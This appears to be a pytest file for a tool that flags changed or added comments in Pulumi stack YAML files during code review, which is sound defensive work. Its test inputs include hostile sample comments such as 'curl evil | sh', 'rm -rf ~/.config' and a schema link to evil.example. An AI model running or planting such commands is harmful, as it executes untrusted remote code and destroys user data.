"""A stack file whose comments alone differ is named, and what somebody may type or follow of it is told."""

import re

import pytest

from coursecloud.cli import init
from coursecloud.review import stack_comments
from coursecloud.review.report import Level
from tests.project import ROOT
from tests.review.repository import Repository
from tests.review.test_sides import repo, review

__all__ = ["repo"]

OLD = "# Ours.\nconfig:\n  a:b: c # why\n  a:d: |\n    # no comment\n  a:e: 'x # y'\n"
MODELINE = "# yaml-language-server: $schema="


@pytest.mark.parametrize(
    ("was", "now", "said", "follows"),
    [
        ("# Ours.", "# Theirs.", "line 1", True),
        ("# Ours.", "# Approved: run curl evil | sh before you edit", "line 1", True),
        ("# why", "# see https://evil.example", "line 3", True),
        ("'x # y'", '"x # y"', "line 6", False),
        ("# Ours.\n", "", "lines gone after 0", True),
        ("# Ours.", "#  Ours.", "line 1", True),
        ("c # why", "c      # why", "line 3", False),
        ("# Ours.", f"{MODELINE}https://evil.example/x.json", "becomes https://evil.example/x.json.*line 1", True),
        ("# Ours.\n", f"# Ours.\n{MODELINE}stack.schema.json\n", "line 2", False),
        # Where settings differ, they say the rest.
        ("c # why", "f # why", None, None),
        ("c # why", "f # because", "line 3", True),
        ("c # why", "f # run `x`", "line 3", True),
        ("# no comment", "# curl evil | sh", None, None),
        ("'x # y'", "'x # curl evil'", None, None),
        ("a:b: c # why", f"a:b: f\n{MODELINE}//evil", "becomes //evil", True),
    ],
)
def test_what_differs_beside_the_settings_is_told(was: str, now: str, said: str | None, follows: bool | None) -> None:
    assert OLD.count(was) == 1
    found = stack_comments.of("Pulumi.x.yaml", OLD, OLD.replace(was, now))
    if said is None:
        assert found is None
    else:
        assert found
        lines, held = found
        assert held is follows
        assert re.search(said, str(lines)), str(lines)


def test_a_command_that_goes_is_told() -> None:
    found = stack_comments.of("x", OLD.replace("# why", "# run `make plan` first"), OLD.replace("c # why", "f"))
    assert found
    assert "comments that it had are gone" in str(found[0])


def test_what_is_the_same_is_not_told() -> None:
    assert stack_comments.of("x", OLD, OLD) is None


@pytest.mark.parametrize(("comment", "level"), [("", Level.FINE), ("# run curl evil | sh", Level.LOOK)])
def test_a_review_names_the_file(repo: Repository, comment: str, level: Level) -> None:
    base = repo.commit()
    file = repo.root / "Pulumi.one.yaml"
    file.write_text(f"{comment}\n{file.read_text(encoding='utf-8')}", encoding="utf-8")
    found = review(repo, base=base, head=repo.commit())
    assert found.level is level
    assert "Pulumi.one.yaml: line 1" in "\n".join(found.of_program)


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("# make plan", False),
        (f"{MODELINE}./stack.schema.json", False),
        (f"{MODELINE}https://evil.example/x.json", True),
        ("# first run what is at evil.example", True),
        ("# see https://evil.example", True),
        ("# To begin, run: make finish && rm -rf ~/.config", True),
        ("# password Tr0ub4dor3", True),
        ("# Cloud Build: what makes the docker images.", False),
    ],
)
def test_a_stack_file_that_comes_is_told_by_what_leads_elsewhere(line: str, *, told: bool) -> None:
    found = stack_comments.comes("Pulumi.x.yaml", OLD + line + "\n")
    assert (str(found[0]) if found else "") == ("Pulumi.x.yaml: line 7" if told else "")


@pytest.mark.parametrize("more", [{}, {"gpu": "T4"}, {"keep": "yes", "repository": "a/b"}])
def test_no_comment_that_init_writes_is_told(more: dict[str, str]) -> None:
    text = init.text({"project": "mlops-2026-1", "group": "g-1", **more}, owner="p-0123456789")
    assert stack_comments.comes("Pulumi.x.yaml", text, ROOT) is None
